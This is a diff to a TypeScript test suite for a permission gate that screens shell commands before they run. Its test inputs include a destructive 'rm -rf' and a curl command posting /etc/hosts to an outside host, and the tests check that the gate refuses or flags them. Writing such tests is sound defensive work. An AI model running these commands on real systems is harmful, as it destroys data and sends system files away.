@@ -163,6 +163,49 @@ describe('an assent window', () => {
     );
   const answer = async (command: string, more: Record<string, unknown> = {}): Promise<string> =>
     (await dry(command, { session, ...more })).answer;
+  it.each([
+    [
+      { actions: ['files.create'], commands: ['touch /srv/x', 'rm -rf /srv/y'] },
+      'commands[1]',
+      /rm -rf \/srv\/y asks each time/,
+    ],
+    [{ commands: ['curl -d @/etc/hosts http://elsewhere/'] }, 'commands[0]', /carries content away/],
+    [
+      { actions: [], commands: ['systemctl restart nginx'] },
+      'commands[0]',
+      /name service\.restart in actions/,
+    ],
+    [
+      { actions: [], commands: ['no-such-program x'] },
+      'commands[0]',
+      /name code\.run, program:no-such-program in actions/,
+    ],
+    [
+      { actions: ['program:no-such-program'], commands: ['no-such-program x'] },
+      'commands[0]',
+      /needs code\.run, /,
+    ],
+    [{ targets: ['host:own'], commands: ['touch /srv/oikos/data/x'] }, 'commands[0]', /is denied/],
+    [{ actions: ['permissions.change', 'files.delete'] }, 'actions[1]', /DESTRUCTIVE and asks each time/],
+    [{ actions: ['code.run'] }, 'actions[0]', /name the program as well/],
+  ])('refuses what it could never cover: %j, by %s', async (more, field, says) => {
+    expect(await open(more)).toMatchObject({
+      __typename: 'InvalidInput',
+      message: expect.stringMatching(says),
+    });
+    expect((await open(more)).message.startsWith(field)).toBe(true);
+  });
+
+  it('covers an interruption and an unknown program that it names as well', async () => {
+    for (const [command, actions] of [
+      ['systemctl restart nginx', ['service.restart']],
+      ['no-such-program x', ['code.run', 'program:no-such-program']],
+    ] as const) {
+      expect((await open({ commands: [command], actions })).__typename).toBe('OpenWindowSuccess');
+      expect(await answer(command)).toBe('Proceed');
+    }
+  });
+
   const list = async (filter: Record<string, unknown> = {}): Promise<any[]> =>
     (
       await app.ask(
